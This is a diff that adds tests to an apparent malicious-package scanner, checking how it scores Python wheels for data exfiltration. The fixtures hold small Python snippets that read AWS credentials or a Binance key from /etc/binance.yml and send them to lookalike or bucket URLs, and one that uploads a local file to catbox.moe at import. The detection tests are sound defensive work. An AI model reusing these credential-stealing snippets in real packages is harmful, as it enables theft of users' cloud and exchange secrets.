@@ -733,3 +733,54 @@ test('files that are kept with a paste service under its user’s own key are th
   ] as const)
     expect(await of(key, url)).toMatchObject([{ class: 'suspicious', score: 5 }]);
 });
+
+test.each([
+  ['a sign-in of the vendor', 'https://signin.aws.amazon.com/federation', 0],
+  ['a sign-in of the vendor elsewhere', 'https://signin.amazonaws.cn/federation', 0],
+  ['a bucket', 'https://drop.s3.amazonaws.com/x', 5],
+  ['a name that looks alike', 'https://signin.amazonaws.invalid/federation', 5],
+])('credentials on call to %s', async (_what, address, least) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import boto3, requests',
+      'def open_console():',
+      '    keys = boto3.Session().get_credentials().get_frozen_credentials()',
+      `    return requests.get('${address}', params={'k': keys.secret_key, 's': keys.token}).json()`,
+    ),
+  });
+  const scores = (await inspect('exfiltration', file)).map(({ score }) => score);
+
+  expect(Math.max(0, ...scores)).toBeGreaterThanOrEqual(least);
+  if (least === 0) expect(Math.max(0, ...scores)).toBeLessThan(3);
+});
+
+test.each([
+  ["'C:\\\\Users\\\\k.lindt\\\\Pictures\\\\a.gif'", 'suspicious'],
+  ["os.path.expanduser('~/Pictures/a.gif')", 'malware'],
+  ["'/home/user/a.gif'", 'malware'],
+])('a file of the author, which no other machine has, tried out at import: %s', async (path, expected) => {
+  const file = wheel({
+    'pkg/__init__.py': '',
+    'pkg/trial.py': python(
+      'import os, requests',
+      `requests.post('https://catbox.moe/user/api.php', files={'f': open(${path}, 'rb')})`,
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: expected, context: 'import' }]);
+});
+
+test('settings that are named for the house they go to are its own business on call, and nobody else', async () => {
+  const asking = (address: string): string =>
+    python(
+      'import requests, yaml',
+      'def balance():',
+      "    key = yaml.safe_load(open('/etc/binance.yml'))['key']",
+      `    return requests.get('${address}', params={'k': key}).json()`,
+    );
+  const own = await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('https://api.binance.com/v1') }));
+  const other = await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('https://api.binance-keys.com/v1') }));
+
+  expect(Math.max(0, ...own.map(({ score }) => score))).toBeLessThan(3);
+  expect(other).toMatchObject([{ score: 6 }]);
+});
